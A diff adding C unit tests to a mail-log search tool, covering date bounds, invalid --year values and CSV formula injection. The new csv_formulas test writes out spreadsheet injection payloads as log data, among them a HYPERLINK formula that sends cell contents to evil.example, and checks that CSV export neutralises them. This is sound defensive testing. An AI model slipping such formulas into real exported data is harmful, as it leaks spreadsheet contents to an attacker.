@@ -168,6 +168,11 @@ static void search_flags(void **state)
 	assert_int_equal(count("--until %s", "2026-03-03T10:02:00Z"), 3);
 	assert_int_equal(count("--since 2026-03-03T10:02:00Z --until %s", "2026-03-03T10:03:59Z"), 4);
 	assert_int_equal(count("--since %s", "2026-03-04"), 0);
+	/* until before 1970 is before every row (not "no until") */
+	assert_int_equal(count("--until %s", "1969-12-31"), 0);
+	assert_int_equal(count("--until %s", "1960-01-01"), 0);
+	assert_int_equal(count("--until %s", "2999999w"), 0);
+	assert_int_equal(count("--since %s", "1960-01-01"), 14);
 	assert_int_equal(count("--msgid %s", "m3@example.com"), 1);
 	assert_int_equal(count("--msgid %s", "'<m3@example.com>'"), 1);
 	assert_int_equal(count("--ip %s", "192.0.2.10"), 1);
@@ -203,6 +208,14 @@ static void search_flags(void **state)
 	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --since yesterdayish", db), 1);
 	assert_non_null(strstr(err, "since"));
 	free(out); free(err);
+	/* a year that is not one */
+	static const char *const years[] = { "abc", "-5", "2147483647", "", "2026x", "1969" };
+	for (size_t i = 0; i < ML_ARRAY_LEN(years); i++) {
+		assert_int_equal(tl_mtalog(&out, &err, "--db %s/year.db ingest --year '%s' tests/data/statuses.log", dir, years[i]), 1);
+		if (!strstr(err, "--year"))
+			fail_msg("--year '%s': %s", years[i], err);
+		free(out); free(err);
+	}
 }
 
 static void json_keys_and_subjects(void **state)
@@ -300,6 +313,44 @@ static void csv_and_table(void **state)
 	assert_non_null(strstr(out, "TIME (UTC)"));
 	assert_non_null(strstr(out, "judy@example.com"));
 	assert_non_null(strstr(err, "9 rows"));
+	free(out); free(err);
+}
+
+/* A subject or an address a spreadsheet would run as a formula is
+ * exported as text (OWASP: a quote before it); the same cell in JSON is
+ * as logged. */
+static void csv_formulas(void **state)
+{
+	(void)state;
+	char log[4200], fdb[4200];
+	snprintf(log, sizeof log, "%s/formula.log", dir);
+	snprintf(fdb, sizeof fdb, "%s/formula.db", dir);
+	const char *lines =
+		"Dec 20 09:00:00 mx1 postfix/smtpd[10]: 1A2B3C4D5E: client=mail.evil.example[192.0.2.5]\n"
+		"Dec 20 09:00:01 mx1 postfix/cleanup[11]: 1A2B3C4D5E: info: header Subject: =HYPERLINK(\"http://evil.example/?\"&A1,\"click\") from mail.evil.example[192.0.2.5]; from=<-cmd@evil.example> to=<bob@example.com> proto=ESMTP helo=<mail.evil.example>\n"
+		"Dec 20 09:00:02 mx1 postfix/qmgr[12]: 1A2B3C4D5E: from=<-cmd@evil.example>, size=2000, nrcpt=1 (queue active)\n"
+		"Dec 20 09:00:03 mx1 postfix/lmtp[13]: 1A2B3C4D5E: to=<bob@example.com>, relay=store[192.0.2.40]:24, delay=3, delays=1/0/1/1, dsn=2.0.0, status=sent (250 2.0.0 Ok)\n"
+		"Dec 20 09:00:03 mx1 postfix/qmgr[12]: 1A2B3C4D5E: removed\n"
+		"Dec 20 09:10:00 mx1 postfix/smtpd[10]: 2B3C4D5E6F: client=mail.evil.example[192.0.2.5]\n"
+		"Dec 20 09:10:01 mx1 postfix/cleanup[11]: 2B3C4D5E6F: info: header Subject: +1 -2 @SUM(A1) from mail.evil.example[192.0.2.5]; from=<@x.example> to=<bob@example.com> proto=ESMTP helo=<mail.evil.example>\n"
+		"Dec 20 09:10:02 mx1 postfix/qmgr[12]: 2B3C4D5E6F: from=<a@x.example>, size=2000, nrcpt=1 (queue active)\n"
+		"Dec 20 09:10:03 mx1 postfix/lmtp[13]: 2B3C4D5E6F: to=<bob@example.com>, relay=store[192.0.2.40]:24, delay=3, delays=1/0/1/1, dsn=2.0.0, status=sent (250 2.0.0 Ok)\n"
+		"Dec 20 09:10:03 mx1 postfix/qmgr[12]: 2B3C4D5E6F: removed\n";
+	tl_write_file(log, lines, strlen(lines));
+	char *out, *err;
+	if (tl_mtalog(NULL, &err, "--db %s ingest --year 2026 %s", fdb, log) != 0)
+		fail_msg("ingest: %s", err);
+	free(err);
+	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --csv", fdb), 0);
+	assert_int_equal(tl_count_lines(out), 3);
+	assert_non_null(strstr(out, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","));
+	assert_non_null(strstr(out, ",\"'-cmd@evil.example\","));
+	assert_non_null(strstr(out, ",\"'+1 -2 @SUM(A1)\","));
+	/* numbers stay numbers; nothing else is quoted */
+	assert_null(strstr(out, ",\"'2"));
+	free(out); free(err);
+	assert_int_equal(tl_mtalog(&out, &err, "--db %s search --json --from -cmd@evil.example", fdb), 0);
+	assert_non_null(strstr(out, "\"subject\":\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"click\\\")\""));
 	free(out); free(err);
 }
 
@@ -667,6 +718,7 @@ int main(void)
 		cmocka_unit_test(json_keys_and_subjects),
 		cmocka_unit_test(cjk_subjects),
 		cmocka_unit_test(csv_and_table),
+		cmocka_unit_test(csv_formulas),
 		cmocka_unit_test(show_message),
 		cmocka_unit_test(local_time),
 		cmocka_unit_test(stats_counts),
